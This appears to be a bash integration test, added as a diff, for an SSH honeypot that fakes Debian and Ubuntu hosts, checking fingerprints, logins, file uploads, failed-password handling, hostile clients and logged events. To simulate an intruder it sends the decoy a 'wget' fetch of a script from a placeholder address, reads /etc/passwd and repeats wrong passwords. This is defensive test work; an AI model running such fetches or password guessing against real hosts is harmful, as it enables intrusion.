@@ -1,0 +1,181 @@
+#!/usr/bin/env bash
+# ssh_decoy.sh: the SSH decoy against real clients (issue 7). Two deckies on a test bridge (Debian 12 and
+# Ubuntu 22.04 personas) served by `decnet serve`, the sensor capturing the bridge. Checks:
+#   - ssh-audit -j equals the stored reference of each persona (banner, lists, order); nmap -sV with
+#     ssh2-enum-algos, ssh-hostkey, ssh-auth-methods prints product, version and lists;
+#   - the sensor's hassh_server for the traffic equals the reference's;
+#   - OpenSSH's client logs in (sshpass), runs commands (exec and a pty shell), uploads with scp (SFTP mode
+#     and legacy -O) and sftp; events and artifacts appear with the uploaded bytes' sha256;
+#   - a wrong password gets "Permission denied" after the failure delay, 6 failures the disconnect;
+#   - every kex, host-key, cipher and MAC the personas advertise completes a login with the real client,
+#     and compression (zlib@openssh.com) too;
+#   - hostile clients (bad banner, lengths, padding, MAC, strict-KEX violation, random bytes) are closed
+#     with an ssh.protocol.anomaly event and the decoy keeps serving.
+# Only addresses inside our own bridge and namespaces are contacted.
+source "$(dirname "$0")/lib.sh"
+# ssh-audit (the version the references were recorded with) and cryptography in a venv of their own (PyPI)
+VENV=$ROOT/.build/venv-ssh
+if [ ! -x "$VENV/bin/ssh-audit" ]; then
+  python3 -m venv "$VENV"
+  "$VENV/bin/pip" install -q --disable-pip-version-check ssh-audit==3.9.0 cryptography
+fi
+PY=$VENV/bin/python3
+make_bridge
+FX=$ROOT/Tests/Fixtures/ssh
+export DECNET_DB_PATH=$WORK/store.db
+DK="--netns-prefix ${PFX}-"
+DEB=$NET.10 UBU=$NET.11
+cat >"$WORK/fleet.ini" <<EOF
+[general]
+net = $NET.0/24
+interface = $BR
+
+[deb]
+ip = $DEB
+distro = debian
+services = ssh
+
+[ubu]
+ip = $UBU
+distro = ubuntu22
+services = ssh
+EOF
+"$DECNET" deploy $DK --config "$WORK/fleet.ini" >"$WORK/deploy.out"
+start_sensor "$BR" --decky "deb=$DEB" --decky "ubu=$UBU"
+"$DECNET" serve $DK --log-file "$WORK/decoys.log" --artifacts-dir "$WORK/art" 2>"$WORK/serve.err" &
+PIDS+=($!)
+wait_for "$WORK/serve.err" "serving 2 decky"
+EV=$WORK/decoys.log.json
+SSHO=(-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=10 -o LogLevel=ERROR)
+
+echo "-- ssh-audit and nmap against each persona"
+for pair in "deb:$DEB:openssh-9.2p1-debian12" "ubu:$UBU:openssh-8.9p1-ubuntu22"; do
+  IFS=: read -r name ip ref <<<"$pair"
+  "$VENV/bin/ssh-audit" -j "$ip" >"$WORK/audit-$name.json" || true            # exit status reflects its policy grades
+  "$PY" "$ROOT/Tests/Integration/ssh_check.py" audit "$FX/$ref.kexinit.json" "$WORK/audit-$name.json"
+  nmap -Pn -sV -p22 --script ssh2-enum-algos,ssh-hostkey,ssh-auth-methods "$ip" >"$WORK/nmap-$name.txt"
+  "$PY" "$ROOT/Tests/Integration/ssh_check.py" nmap "$FX/$ref.kexinit.json" "$WORK/nmap-$name.txt"
+done
+
+echo "-- login, commands, uploads (Debian persona)"
+sshpass -p admin ssh "${SSHO[@]}" "root@$DEB" 'uname -a; cat /etc/os-release; id; wget http://203.0.113.7/x.sh' >"$WORK/exec.out" 2>&1 || true
+grep -q "Linux .* 6.1.0-21-amd64 .*Debian .* x86_64 GNU/Linux" "$WORK/exec.out"
+grep -q 'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"' "$WORK/exec.out"
+grep -q "uid=0(root) gid=0(root)" "$WORK/exec.out"
+head -c 70000 /dev/urandom >"$WORK/payload.bin"
+SHA=$(sha256sum "$WORK/payload.bin" | cut -c1-64)
+sshpass -p admin scp "${SSHO[@]}" "$WORK/payload.bin" "root@$DEB:/tmp/" 2>"$WORK/scp.err" || { cat "$WORK/scp.err"; exit 1; }
+sshpass -p admin scp -O "${SSHO[@]}" "$WORK/payload.bin" "root@$DEB:/tmp/legacy.bin" 2>"$WORK/scp-O.err" || { cat "$WORK/scp-O.err"; exit 1; }
+printf 'cd /tmp\nput %s sftp.bin\nls\nget /etc/hostname %s/hostname.got\nbye\n' "$WORK/payload.bin" "$WORK" >"$WORK/sftp.batch"
+# (not -b: batch mode turns password authentication off)
+sshpass -p admin sftp "${SSHO[@]}" "root@$DEB" <"$WORK/sftp.batch" >"$WORK/sftp.out" 2>&1 || { cat "$WORK/sftp.out"; exit 1; }
+grep -q "sftp.bin" "$WORK/sftp.out"
+grep -qi "srv-\|^[a-z]" "$WORK/hostname.got"
+[ -f "$WORK/art/deb/ssh/$SHA" ] || { echo "artifact $SHA missing"; ls -R "$WORK/art"; exit 1; }
+# an interactive pty shell: prompt, echo, tty log
+(sleep 2; printf 'whoami\r'; sleep 0.5; printf 'cat /etc/issue\r'; sleep 0.5; printf 'exit\r'; sleep 1) |
+  sshpass -p admin ssh -tt "${SSHO[@]}" "root@$DEB" >"$WORK/pty.out" 2>&1 || true
+grep -q "root@srv-.*:~# " "$WORK/pty.out" || grep -q "root@.*:~# " "$WORK/pty.out"
+grep -q "Debian GNU/Linux 12" "$WORK/pty.out"
+echo "-- Ubuntu persona shell agrees with its banner"
+sshpass -p admin ssh "${SSHO[@]}" "admin@$UBU" 'uname -a; cat /etc/os-release' >"$WORK/ubu.out" 2>&1 || true
+grep -q "5.15.0-118-generic .*Ubuntu" "$WORK/ubu.out"
+grep -q 'PRETTY_NAME="Ubuntu 22.04' "$WORK/ubu.out"
+
+echo "-- wrong credentials"
+start=$(date +%s.%N)
+if sshpass -p wrong ssh "${SSHO[@]}" -o NumberOfPasswordPrompts=1 "root@$DEB" true >"$WORK/denied.out" 2>&1; then echo "wrong password accepted"; exit 1; fi
+took=$(echo "$(date +%s.%N) - $start" | bc)
+grep -q "Permission denied (publickey,password)" "$WORK/denied.out" || { cat "$WORK/denied.out"; exit 1; }
+[ "$(echo "$took >= 1.9" | bc)" = 1 ] || { echo "failure came after ${took}s (want the 2 s delay)"; exit 1; }
+# sshpass gives up at the second prompt; OpenSSH's own askpass hook answers every one of them
+printf '#!/bin/sh\necho wrong\n' >"$WORK/askpass"; chmod 700 "$WORK/askpass"
+SSH_ASKPASS="$WORK/askpass" SSH_ASKPASS_REQUIRE=force DISPLAY=none timeout 60 \
+  ssh "${SSHO[@]}" -o NumberOfPasswordPrompts=10 -o PubkeyAuthentication=no "root@$DEB" true >"$WORK/maxtries.out" 2>&1 </dev/null || true
+grep -q "Too many authentication failures" "$WORK/maxtries.out" || { cat "$WORK/maxtries.out"; exit 1; }
+echo "   denied after ${took}s; 6 failures -> Too many authentication failures"
+
+echo "-- every advertised algorithm with the real client"
+ok=0
+run() {
+  sshpass -p admin ssh "${SSHO[@]}" "$@" "root@$DEB" 'echo algo-ok' >"$WORK/algo.out" 2>&1 || true
+  grep -q algo-ok "$WORK/algo.out" || { echo "FAILED: ssh $*"; cat "$WORK/algo.out"; exit 1; }
+  ok=$((ok + 1))
+}
+for k in sntrup761x25519-sha512@openssh.com curve25519-sha256 curve25519-sha256@libssh.org ecdh-sha2-nistp256 \
+         ecdh-sha2-nistp384 ecdh-sha2-nistp521 diffie-hellman-group-exchange-sha256 diffie-hellman-group16-sha512 \
+         diffie-hellman-group18-sha512 diffie-hellman-group14-sha256; do run -o KexAlgorithms=$k; done
+for h in rsa-sha2-512 rsa-sha2-256 ecdsa-sha2-nistp256 ssh-ed25519; do run -o HostKeyAlgorithms=$h; done
+for c in chacha20-poly1305@openssh.com aes128-ctr aes192-ctr aes256-ctr aes128-gcm@openssh.com aes256-gcm@openssh.com; do run -c $c; done
+for m in umac-64-etm@openssh.com umac-128-etm@openssh.com hmac-sha2-256-etm@openssh.com hmac-sha2-512-etm@openssh.com \
+         hmac-sha1-etm@openssh.com umac-64@openssh.com umac-128@openssh.com hmac-sha2-256 hmac-sha2-512 hmac-sha1; do
+  run -c aes256-ctr -m $m
+done
+run -C                                      # zlib@openssh.com, started after authentication
+sshpass -p admin ssh "${SSHO[@]}" -C "root@$DEB" 'cat /etc/passwd /etc/os-release /etc/passwd' >"$WORK/zlib.out" 2>&1
+grep -c "root:x:0:0" "$WORK/zlib.out" | grep -q 2
+# the non-@openssh.com sntrup name only the Debian persona lists (the 9.2 client knows only the alias)
+echo "   $ok logins, one per kex / host key / cipher / MAC, and with compression"
+
+echo "-- hostile clients"
+"$PY" "$ROOT/Tests/Integration/ssh_check.py" hostile "$DEB" 22
+"$PY" "$ROOT/Tests/Integration/ssh_check.py" badmac "$DEB" 22
+sshpass -p admin ssh "${SSHO[@]}" "root@$DEB" 'echo still-serving' >"$WORK/after.out" 2>&1
+grep -q still-serving "$WORK/after.out"
+
+echo "-- events"
+sleep 1
+python3 - "$EV" "$SHA" <<'PY'
+import json, sys, collections
+ev = [json.loads(l) for l in open(sys.argv[1])]
+sha = sys.argv[2]
+by = collections.defaultdict(list)
+for e in ev:
+    if e["service"] == "ssh":
+        by[e["event_type"]].append(e["fields"])
+need = ["ssh.session.connect", "ssh.client.version", "ssh.client.kex", "ssh.login.success", "ssh.login.failed",
+        "ssh.command.input", "ssh.session.file_download", "ssh.session.file_upload", "ssh.tty.closed",
+        "ssh.protocol.anomaly", "ssh.session.closed", "ssh.client.size"]
+missing = [n for n in need if not by[n]]
+assert not missing, f"missing events {missing}"
+kex = by["ssh.client.kex"]
+assert all(k["hassh"] and k["client_banner"].startswith("SSH-2.0-") for k in kex)
+assert {k["hassh_server"] for k in kex if k["server_banner"].startswith("SSH-2.0-OpenSSH_9.2p1")} == {"425d29fe50d8e4f5e37efb6e24bcf660"}
+ok = [f for f in by["ssh.login.success"] if f["username"] == "root"]
+assert ok and ok[0]["secret_printable"] == "admin" and ok[0]["secret_b64"] == "YWRtaW4=" and ok[0]["method"] == "password"
+bad = [f for f in by["ssh.login.failed"] if f.get("secret_printable") == "wrong"]
+assert bad and bad[0]["auth_result"] == "failed"
+cmds = [f["input"] for f in by["ssh.command.input"]]
+assert any("uname -a" in c for c in cmds) and "whoami" in cmds, cmds
+assert any(f["url"] == "http://203.0.113.7/x.sh" for f in by["ssh.session.file_download"])
+ups = by["ssh.session.file_upload"]
+vias = {(f["via"], f["filename"]) for f in ups if f["sha256"] == sha and f["size"] == "70000"}
+assert ("sftp", "/tmp/payload.bin") in vias and ("scp", "/tmp/legacy.bin") in vias and ("sftp", "/tmp/sftp.bin") in vias, vias
+tty = by["ssh.tty.closed"][0]
+cast = [json.loads(l) for l in open(tty["ttylog"])]
+assert cast[0]["version"] == 2 and any(e[1] == "o" and "whoami" in e[2] for e in cast[1:]), cast[:3]
+kinds = {f["kind"] for f in by["ssh.protocol.anomaly"]}
+want = {"bad_identification", "bad_packet_length", "bad_padding", "no_common_algorithm", "unexpected_message",
+        "strict_kex_violation", "malformed_message", "bad_key_exchange_value", "bad_mac"}
+assert want <= kinds, f"anomaly kinds {sorted(kinds)} lack {sorted(want - kinds)}"
+print(f"events: {sum(len(v) for v in by.values())} ssh events; anomalies {sorted(kinds)}; uploads {sorted(vias)}")
+PY
+
+echo "-- sensor: hassh_server of the decoy traffic = the real OpenSSH's"
+stop_sensor
+python3 - "$WORK/events.log.json" "$DEB" "$UBU" "$FX" <<'PY'
+import json, sys
+deb, ubu, fx = sys.argv[2], sys.argv[3], sys.argv[4]
+ref = {deb: json.load(open(f"{fx}/openssh-9.2p1-debian12.kexinit.json"))["hassh_server"],
+       ubu: json.load(open(f"{fx}/openssh-8.9p1-ubuntu22.kexinit.json"))["hassh_server"]}
+seen = {}
+for l in open(sys.argv[1]):
+    e = json.loads(l)
+    if e["event_type"] == "ssh_kex" and e["fields"].get("hassh_server"):
+        f = e["fields"]
+        seen.setdefault(f["dst_ip"], set()).add(f["hassh_server"])
+for ip, h in ref.items():
+    assert seen.get(ip) == {h}, f"{ip}: sensor hassh_server {seen.get(ip)} != {h}"
+print(f"sensor hassh_server: {deb} {ref[deb]}, {ubu} {ref[ubu]}")
+PY
+echo "ssh_decoy: all passed"
